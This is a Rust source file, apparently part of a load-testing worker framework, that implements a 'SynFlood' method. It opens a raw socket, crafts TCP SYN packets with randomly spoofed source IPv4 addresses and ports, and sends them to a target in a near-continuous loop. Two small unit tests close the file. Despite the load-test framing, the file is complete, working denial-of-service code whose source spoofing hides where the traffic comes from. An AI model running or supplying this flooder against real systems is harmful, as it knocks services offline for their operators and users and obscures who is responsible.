use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use rand::Rng;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use worker_core::WorkerCtx;
use worker_core::dispatch::LoadMethod;

use common::target::split_host_port;

/// Crafts a raw SYN packet with a random spoofed source IPv4 and source
/// port (1024-65535) to `host:port` and sends it. Requires raw-socket
/// (`CAP_NET_RAW`/root) privilege; if the socket cannot be created the unit
/// reports failure so the test is marked FAILED rather than COMPLETED.
pub struct SynFlood;

#[async_trait]
impl LoadMethod for SynFlood {
    async fn run_unit(&self, ctx: Arc<WorkerCtx>) -> Result<(), String> {
        let (host, port) =
            split_host_port(&ctx.target).ok_or_else(|| format!("bad target {}", ctx.target))?;
        let dst_ip: Ipv4Addr = tokio::net::lookup_host((host.as_str(), 0))
            .await
            .ok()
            .and_then(|mut it| it.next())
            .and_then(|addr| match addr.ip() {
                std::net::IpAddr::V4(v4) => Some(v4),
                _ => None,
            })
            .ok_or_else(|| format!("could not resolve {host} to an IPv4 address"))?;

        let socket = tokio::task::spawn_blocking(|| {
            Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP))
        })
        .await
        .map_err(|e| format!("join error: {e}"))?
        .map_err(|e| format!("raw socket unavailable (requires CAP_NET_RAW): {e}"))?;
        socket
            .set_header_included_v4(true)
            .map_err(|e| format!("IP_HDRINCL unavailable: {e}"))?;

        while ctx.should_continue() {
            let src_ip = Ipv4Addr::new(
                rand::rng().random_range(1..=254),
                rand::rng().random_range(0..=255),
                rand::rng().random_range(0..=255),
                rand::rng().random_range(1..=254),
            );
            let src_port: u16 = rand::rng().random_range(1024..=65535);
            let packet = build_syn_packet(src_ip, src_port, dst_ip, port);
            let dest = SockAddr::from(SocketAddrV4::new(dst_ip, port));

            ctx.metrics.events_sent.inc();
            let sent = {
                let socket = socket.try_clone().map_err(|e| e.to_string())?;
                let packet = packet.clone();
                let dest = dest.clone();
                tokio::task::spawn_blocking(move || socket.send_to(&packet, &dest))
                    .await
                    .map_err(|e| e.to_string())?
            };
            match sent {
                Ok(n) => {
                    ctx.metrics.bytes_sent.inc_by(n as u64);
                    ctx.metrics.successes.inc();
                }
                Err(_) => {
                    ctx.metrics.failures.inc();
                }
            }

            tokio::select! {
                _ = ctx.stop.cancelled() => break,
                _ = tokio::time::sleep(Duration::from_millis(1)) => {}
            }
        }
        Ok(())
    }
}

fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = 0;
    let mut chunks = data.chunks_exact(2);
    for chunk in &mut chunks {
        sum += u16::from_be_bytes([chunk[0], chunk[1]]) as u32;
    }
    if let [last] = chunks.remainder() {
        sum += (*last as u32) << 8;
    }
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn build_syn_packet(src_ip: Ipv4Addr, src_port: u16, dst_ip: Ipv4Addr, dst_port: u16) -> Vec<u8> {
    const IP_HEADER_LEN: usize = 20;
    const TCP_HEADER_LEN: usize = 20;

    let mut tcp = [0u8; TCP_HEADER_LEN];
    tcp[0..2].copy_from_slice(&src_port.to_be_bytes());
    tcp[2..4].copy_from_slice(&dst_port.to_be_bytes());
    tcp[4..8].copy_from_slice(&rand::rng().random::<u32>().to_be_bytes()); // sequence number
    tcp[8..12].copy_from_slice(&0u32.to_be_bytes()); // ack number
    tcp[12] = (TCP_HEADER_LEN as u8 / 4) << 4; // data offset
    tcp[13] = 0x02; // SYN flag
    tcp[14..16].copy_from_slice(&65535u16.to_be_bytes()); // window size
    // checksum (bytes 16..18) filled below
    // urgent pointer (18..20) stays zero

    let mut pseudo = Vec::with_capacity(12 + TCP_HEADER_LEN);
    pseudo.extend_from_slice(&src_ip.octets());
    pseudo.extend_from_slice(&dst_ip.octets());
    pseudo.push(0);
    pseudo.push(6); // TCP protocol number
    pseudo.extend_from_slice(&(TCP_HEADER_LEN as u16).to_be_bytes());
    pseudo.extend_from_slice(&tcp);
    let tcp_checksum = checksum(&pseudo);
    tcp[16..18].copy_from_slice(&tcp_checksum.to_be_bytes());

    let mut ip = [0u8; IP_HEADER_LEN];
    ip[0] = 0x45; // version 4, IHL 5
    ip[1] = 0; // DSCP/ECN
    let total_len = (IP_HEADER_LEN + TCP_HEADER_LEN) as u16;
    ip[2..4].copy_from_slice(&total_len.to_be_bytes());
    ip[4..6].copy_from_slice(&rand::rng().random::<u16>().to_be_bytes()); // identification
    ip[6..8].copy_from_slice(&0u16.to_be_bytes()); // flags/fragment offset
    ip[8] = 64; // TTL
    ip[9] = 6; // protocol TCP
    // checksum (10..12) filled below
    ip[12..16].copy_from_slice(&src_ip.octets());
    ip[16..20].copy_from_slice(&dst_ip.octets());
    let ip_checksum = checksum(&ip);
    ip[10..12].copy_from_slice(&ip_checksum.to_be_bytes());

    let mut packet = Vec::with_capacity(IP_HEADER_LEN + TCP_HEADER_LEN);
    packet.extend_from_slice(&ip);
    packet.extend_from_slice(&tcp);
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn packet_has_expected_length_and_flags() {
        let packet = build_syn_packet(
            Ipv4Addr::new(10, 0, 0, 1),
            40000,
            Ipv4Addr::new(198, 51, 100, 1),
            80,
        );
        assert_eq!(packet.len(), 40);
        assert_eq!(packet[33], 0x02); // SYN flag in TCP header
    }

    #[test]
    fn checksum_of_empty_is_all_ones() {
        assert_eq!(checksum(&[]), 0xffff);
    }
}
